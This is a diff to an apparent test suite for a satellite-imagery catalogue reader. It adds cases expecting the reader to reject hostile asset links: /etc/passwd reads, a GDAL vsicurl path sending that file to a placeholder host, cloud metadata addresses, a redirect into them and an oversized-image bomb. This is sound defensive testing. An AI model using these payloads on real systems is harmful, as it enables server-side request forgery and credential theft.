@@ -10,6 +10,9 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from typing import Any
 
+from rasterio.io import MemoryFile
+
+from tests import builders
 from tests.faults.proxy import Fault
 
 FIRST = r"S2B_TEST_1/(red|green|blue|nir|scl)\.tif"
@@ -58,6 +61,46 @@ def _damage(page: Document) -> Document:
         for item in page["features"]
     ]
     return {**page, "features": broken}
+
+
+def _naming(href: str) -> Callable[[], list[Fault]]:
+    """Let the first overpass's item say that its red band lies elsewhere."""
+
+    def change(page: Document) -> Document:
+        def lie(item: Document) -> Document:
+            return {**item, "assets": {**item["assets"], "red": {**item["assets"]["red"], "href": href}}}
+
+        return {
+            **page,
+            "features": [lie(item) if "20201103" in item["id"] else item for item in page["features"]],
+        }
+
+    return lambda: [Fault(SEARCH, change=change)]
+
+
+def _self_is(href: str) -> Callable[[], list[Fault]]:
+    def change(page: Document) -> Document:
+        links = [{"rel": "self", "href": href}]
+        return {
+            **page,
+            "features": [
+                {**item, "links": links} if "20201103" in item["id"] else item for item in page["features"]
+            ],
+        }
+
+    return lambda: [Fault(SEARCH, change=change)]
+
+
+def _huge() -> list[Fault]:
+    """Let the first overpass's red band be 578 bytes that say they are one block of 400,000 x 400,000 pixels."""
+    profile = {
+        "driver": "GTiff", "width": 400_000, "height": 400_000, "count": 1, "dtype": "uint16", "crs": builders.CRS,
+        "transform": builders.grid().transform, "SPARSE_OK": True, "BIGTIFF": "YES", "compress": "deflate",
+        "blockysize": 400_000,
+    }  # fmt: skip
+    with MemoryFile(ext=".tif") as memory:
+        memory.open(**profile).close()
+        return [Fault(r"S2B_TEST_1/red\.tif", garbage=bytes(memory.read()))]
 
 
 def _status(status: int, times: int = 2, **headers: str) -> Callable[[], list[Fault]]:
@@ -126,4 +169,22 @@ ROWS: tuple[Row, ...] = (
     Row("an item has lost its datetime, no other catalogue", lambda: [Fault(SEARCH, change=_damage)], FAILED,
     "datetime",
         alone=True),
+    # A catalogue that lies
+    Row("an item names a file of this machine, no other catalogue", _naming("file:///etc/passwd"), FAILED,
+        "only http, https and S3 are read from there", alone=True),
+    Row("an item names a path by which GDAL would send a file, no other catalogue",
+        _naming("/vsicurl?header_file=/etc/passwd&url=http://192.0.2.1/"), FAILED, "is a path of GDAL's", alone=True),
+    Row("an item names a driver of GDAL's, no other catalogue", _naming("GTIFF_RAW:/etc/passwd"), FAILED,
+        "only http, https and S3 are read from there", alone=True),
+    Row("an item names `ftp://`, no other catalogue", _naming("ftp://192.0.2.1/red.tif"), FAILED,
+        "only http, https and S3 are read from there", alone=True),
+    Row("an item names an address inside the network, no other catalogue",
+        _naming("http://169.254.169.254/latest/meta-data/"), FAILED, "is not on the Internet", alone=True),
+    Row("an item says that it lies at `/etc/item.json`, which is then a path of its own server",
+        _self_is("/etc/item.json"), RECOVERED, alone=True),
+    Row("the server redirects an image into the network, no other catalogue", _always(status=302,
+        headers={"Location": "http://169.254.169.254/latest/"}), FAILED, "is not on the Internet", alone=True),
+    # Images that would exhaust whoever reads them
+    Row("an image of a few bytes says that it is one block of 160 billion pixels, no other catalogue", _huge, FAILED,
+        "its blocks of 400000 x 400000 pixels", alone=True),
 )  # fmt: skip
